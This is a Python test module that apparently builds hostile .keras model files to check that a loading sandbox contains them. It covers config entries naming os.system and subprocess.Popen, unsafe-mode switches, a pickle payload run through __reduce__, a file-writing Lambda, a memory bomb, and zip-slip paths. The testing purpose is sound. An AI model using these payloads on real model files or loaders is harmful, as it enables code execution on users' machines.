"""Files in .keras that do harm when they are read: by what their config names, their pickles, lambdas and members."""

from __future__ import annotations

from typing import Any, Final

from matrix.model import Format, Method, Verdict
from tests.hostile.case import Cases

ATTACKS: Final = Cases(".keras files that do harm when they are read")
LOADS, FAIL, TIMEOUT = Verdict.LOADS, Verdict.FAIL, Verdict.TIMEOUT
CRASH, OUT_OF_MEMORY = Verdict.CRASH, Verdict.OUT_OF_MEMORY

KERAS: Final = {"format": Format.KERAS}
UNSAFE: Final = {"format": Format.KERAS, "method": Method.SAFE_MODE_FALSE}


@ATTACKS.case(FAIL, LOADS, often=True, **KERAS)
def names_a_function(kit: Any) -> Any:
    """A .keras whose config names os.system as a layer's function (CVE-2025-1550).
    Stopped by: safe mode, where the loader has it; else it runs as nobody, in a container without anything.
    """
    return kit.calling("os", "system")


@ATTACKS.case(FAIL, LOADS, **KERAS)
def names_a_class(kit: Any) -> Any:
    """A .keras whose config names subprocess.Popen as a layer.
    Stopped by: it is no Keras class; where it is made all the same, it runs as nobody.
    """

    def edit(layer):
        layer.update(
            class_name="Popen", module="subprocess", registered_name="Popen", config={"args": ["touch", "/in/owned"]}
        )

    return kit.keras(edit)


@ATTACKS.case(FAIL, LOADS, **KERAS)
def switches_safe_mode_off(kit: Any) -> Any:
    """A .keras whose config first calls enable_unsafe_deserialization, then has a Lambda (CVE-2025-9906).
    Stopped by: newer Keras refuses; the sandbox does not depend on it.
    """
    old = kit.tf.__version__ < "2.16"
    return kit.calling("keras.src.saving.serialization_lib" if old else "keras.config", "enable_unsafe_deserialization")


@ATTACKS.case(FAIL, LOADS, **KERAS)
def fetches_and_unpacks(kit: Any) -> Any:
    """A .keras whose config calls get_file to fetch an archive and unpack it (CVE-2025-8747).
    Stopped by: no network, and nothing to unpack into but its own folder.
    """
    return kit.calling("keras.utils", "get_file", origin="file:///etc/passwd", extract=True, cache_dir="/in")


@ATTACKS.case(FAIL, LOADS, **KERAS)
def loads_another_model(kit: Any) -> Any:
    """A .keras whose config calls load_model on another path without safe mode.
    Stopped by: there is no other model; safe mode, where the loader has it.
    """
    return kit.calling("keras.saving", "load_model", safe_mode=False)


@ATTACKS.case(FAIL, **KERAS)
def layer_of_a_path(kit: Any) -> Any:
    """A .keras with a TFSMLayer, which loads a SavedModel from a path (CVE-2026-1462). Stopped by: nothing lies there."""

    def edit(layer):
        layer.update(class_name="TFSMLayer", module="keras.layers", registered_name=None, build_config=None)
        layer["config"] = {"filepath": kit.canary, "call_endpoint": "serve", "name": layer["config"]["name"]}

    return kit.keras(edit)


@ATTACKS.case(FAIL, LOADS, often=True, **KERAS)
def pickled_weights(kit: Any) -> Any:
    """A .keras whose weights are an .npz of pickled objects. Stopped by: numpy unpickles nothing that it is not told to."""
    import io
    import os
    import zipfile

    import numpy as np

    class Evil:
        def __reduce__(self):
            return os.system, ("touch /tmp/owned-by-pickle",)

    whole, objects = io.BytesIO(), np.array([Evil(), Evil()], dtype=object)
    places = [
        top + name + end
        for top in ("layers/", "_layer_checkpoint_dependencies/")
        for name in ("y", "dense")
        for end in ("", "/vars")
    ]
    np.savez(whole, **dict.fromkeys(places, objects))
    with zipfile.ZipFile(io.BytesIO(kit.keras())) as archive:
        found = {name: archive.read(name) for name in archive.namelist() if not name.endswith(".h5")}
    return kit.zip({**found, "model.weights.npz": whole.getvalue()})


@ATTACKS.case(FAIL, often=True, **KERAS)
def lambda_in_safe_mode(kit: Any) -> Any:
    """A .keras with a Lambda's marshalled code. Stopped by: safe mode, the loader's own default."""
    import os

    tf = kit.tf
    inputs = tf.keras.Input((4,), name="x")
    layer = tf.keras.layers.Lambda(lambda x: x, name="y")
    model = tf.keras.Model(inputs, layer(inputs))
    path = os.path.join(kit.folder, "lambda.keras")
    model.save(path)
    return kit.read(path)


@ATTACKS.case(FAIL, LOADS, **UNSAFE)
def lambda_out_of_safe_mode(kit: Any) -> Any:
    """The same, loaded with safe_mode=False, writing wherever it can. Stopped by: the sandbox alone; it runs."""
    import os

    tf = kit.tf
    inputs = tf.keras.Input((4,), name="x")
    source = "lambda x: (open('/in/owned', 'w'), x)[1]"
    layer = tf.keras.layers.Lambda(lambda x: x, name="y")
    model = tf.keras.Model(inputs, layer(inputs))
    layer.function = eval(source)
    path = os.path.join(kit.folder, "lambda.keras")
    model.save(path)
    return kit.read(path)


@ATTACKS.case(OUT_OF_MEMORY, FAIL, TIMEOUT, CRASH, **KERAS)
def config_bomb(kit: Any) -> Any:
    """A .keras of 2 MB whose config.json has 1.5 GB. Stopped by: the limit on memory."""
    return kit.keras(config=b'{"a": "' + b" " * (1500 << 20) + b'"}')


@ATTACKS.case(FAIL, LOADS, **KERAS)
def zip_slip_in_keras(kit: Any) -> Any:
    """A .keras with members that lead outside of it. Stopped by: Keras unpacks what it looks for; else the read-only root."""
    members = {"../../../../tmp/owned": b"x", "/in/owned": b"x", "/probe/load.py": b"raise SystemExit"}
    return kit.keras(**members)
